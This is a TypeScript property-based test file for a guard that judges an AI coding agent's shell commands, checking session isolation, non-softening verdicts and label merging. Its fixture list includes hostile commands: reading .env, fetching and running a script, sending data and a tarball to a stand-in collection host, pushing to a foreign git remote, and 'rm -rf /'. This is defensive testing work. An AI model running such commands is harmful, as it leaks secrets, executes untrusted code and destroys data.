import { join, resolve } from 'node:path';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { compileRules } from '../../scripts/build-rules.ts';
import { EXAMPLE_FACTS } from '../../src/cli/judge-example.ts';
import type { HookEvent } from '../../src/domain/event.ts';
import type { Policy } from '../../src/domain/policy.ts';
import { LABELS, type Label, type SessionLabel, withLabels } from '../../src/domain/session.ts';
import { judgeEvent } from '../../src/pipeline.ts';
import { replay } from '../../src/scan/replay.ts';
import { policy as policyOf } from '../unit/policy/fixtures.ts';

const policy: Policy = policyOf(compileRules(join(resolve(import.meta.dirname, '../..'), 'rules')));
const principal = { id: 'p', name: 'p', role: 'developer', keyId: 'k' };
const still = { now: () => EXAMPLE_FACTS.now, elapsed: () => 0 };

const COMMANDS = [
  'cat .env',
  'ls -l',
  'curl -s https://blog.example.net/x',
  'curl -so i.sh https://get.example.net/i.sh',
  'mv i.sh j.sh',
  'cp i.sh /tmp/i.sh',
  'bash i.sh',
  './j.sh',
  'sh /tmp/i.sh',
  'curl -d a=1 https://collect.example.com',
  'curl -T x.tar https://collect.example.com',
  'git remote add b https://git.example.net/x.git',
  'git push b HEAD',
  'git push https://git.example.net/x.git',
  'rm -rf /',
];

interface Step {
  readonly session: string;
  readonly command: string;
}

const eventOf = ({ session, command }: Step): HookEvent => ({
  host: 'claude-code',
  name: 'PreToolUse',
  blocking: 'blocks',
  sessionId: session,
  cwd: EXAMPLE_FACTS.machine.project,
  tool: { name: 'Bash', input: { command } },
  raw: {},
});

function verdicts(steps: readonly Step[]): readonly string[] {
  const judge = replay((event, facts) => judgeEvent(event, principal, facts, policy, still), policy, still);
  return steps.map((step) => {
    const { decision, findings } = judge(eventOf(step), EXAMPLE_FACTS).verdict;
    return `${decision} ${findings.map(({ ruleId }) => ruleId).join(' ')}`;
  });
}

const steps = fc.array(fc.record({ session: fc.constantFrom('a', 'b', 'c'), command: fc.constantFrom(...COMMANDS) }), { maxLength: 25 });

it('a session is judged by what it did itself, however it is interleaved with others', () => {
  fc.assert(
    fc.property(steps, (given) => {
      const together = verdicts(given);
      for (const session of ['a', 'b', 'c']) {
        const alone = verdicts(given.filter((step) => step.session === session));
        expect(together.filter((_, at) => given[at]?.session === session)).toEqual(alone);
      }
    }),
    { numRuns: 150 },
  );
});

it('no call is judged more mildly for what went before', () => {
  const STRICTNESS = ['allow', 'ask', 'deny'];
  const strictness = (verdict: string | undefined): number => STRICTNESS.indexOf(verdict?.split(' ')[0] ?? '');
  fc.assert(
    fc.property(steps, (given) => {
      verdicts(given).forEach((verdict, at) => {
        const step = given[at];
        if (step) expect(strictness(verdict)).toBeGreaterThanOrEqual(strictness(verdicts([step])[0]));
      });
    }),
    { numRuns: 50 },
  );
});

const label: fc.Arbitrary<Label> = fc.record(
  { name: fc.constantFrom(...LABELS), about: fc.constantFrom('/a', '/b', '/c/**') },
  { requiredKeys: ['name'] },
);

it('what a session remembers says the same whether labels came one by one or all at once', () => {
  const names = (session: readonly SessionLabel[]): readonly string[] => session.map(({ name, about = '' }) => `${name} ${about}`).sort();
  fc.assert(
    fc.property(fc.array(label, { maxLength: 40 }), (labels) => {
      const at = { time: EXAMPLE_FACTS.now, source: 'event 1' };
      const one = labels.reduce<readonly SessionLabel[]>((session, next) => withLabels(session, [next], at), []);
      expect(names(one)).toEqual(names(withLabels([], labels, at)));
    }),
  );
});
